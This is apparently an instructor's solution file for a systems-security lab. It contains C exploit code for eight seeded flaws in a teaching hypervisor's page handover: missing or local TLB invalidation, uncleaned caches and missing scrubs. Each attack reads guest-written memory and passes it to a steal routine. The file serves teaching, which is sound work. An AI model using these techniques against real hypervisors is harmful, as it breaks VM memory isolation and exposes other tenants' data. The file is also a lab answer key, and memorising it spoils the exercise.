// Lab 7, for instructors: an attack for each hole; the seed says which. A student needs only one of them.
#include "attack.h"

#define HOLE ((LAB_SEED * 0x9e3779b97f4a7c15ull >> 32) % 8)
enum {
  NO_TLBI,
  LOCAL_TLBI,
  ONLY_IPAS2,
  ASSIGN_NOT_CLEANED,
  UNMAP_LAST,
  PAGE_FOR_ANYBODY,
  NO_SCRUB,
  SCRUB_NOT_CLEANED
};

const enum step missing_step = HOLE == NO_TLBI              ? TAKE_TLBI
                               : HOLE == LOCAL_TLBI         ? TAKE_BROADCAST
                               : HOLE == ONLY_IPAS2         ? TAKE_COMBINED
                               : HOLE == ASSIGN_NOT_CLEANED ? TAKE_CLEAN
                               : HOLE == UNMAP_LAST         ? TAKE_ORDER
                               : HOLE == PAGE_FOR_ANYBODY   ? FAULT_OWNER
                               : HOLE == NO_SCRUB           ? RETURN_SCRUB
                                                            : RETURN_CLEAN;

static volatile u64 last_read;

static volatile u64 stop, tried;

static void read(u64 page) { last_read = *(volatile u64*)page; }
// Not the line that was read before the VM wrote.
static void read_anew(u64 page) {
  DC(civac, page);
  DSB_SY();
  read(page);
}
static void read_on(u64 page) {
  while (!stop) (void)*(volatile u64*)page;
}

void before_give(u64 page) {
  switch (HOLE) {
    case NO_TLBI:
    case ONLY_IPAS2:  // this core's TLB holds the page, and keeps it
      read(page);
      break;
    case LOCAL_TLBI:
      on_other_core(read, page);
      break;
    case UNMAP_LAST:       // the other core fills its TLB again behind the invalidation
      if (tried++) break;  // once is enough, and each time is a risk
      stop = 0;
      start_on_other_core(read_on, page);
      for (volatile unsigned n = 0; n < 100; ++n) continue;
      break;
    case ASSIGN_NOT_CLEANED:  // lines that are newer than memory
      for (unsigned n = 0; n < 512; ++n) ((volatile u64*)page)[n] = 0xbad;
      break;
  }
}

void written(u64 page) {
  switch (HOLE) {
    case NO_TLBI:
    case ONLY_IPAS2:
    case PAGE_FOR_ANYBODY:
      read(page);
      steal(last_read);
      break;
    case LOCAL_TLBI:
      on_other_core(read, page);
      steal(last_read);
      break;
    case UNMAP_LAST:
      stop = 1;
      finish_other_core();
      on_other_core(read_anew, page);
      steal(last_read);
      break;
    case ASSIGN_NOT_CLEANED:  // other lines push them out, over what the VM has written
      for (u64 at = SPARE_MEMORY; at < SPARE_MEMORY + SPARE_BYTES; at += 64) read(at);
      break;
  }
}

void granted(u64 page) { (void)page; }
void revoked(u64 page) { (void)page; }

void returned(u64 page) {
  if (HOLE == NO_SCRUB) read(page);
  if (HOLE == SCRUB_NOT_CLEANED) read(PAST_CACHES(page));
  if (HOLE == NO_SCRUB || HOLE == SCRUB_NOT_CLEANED) steal(last_read);
}
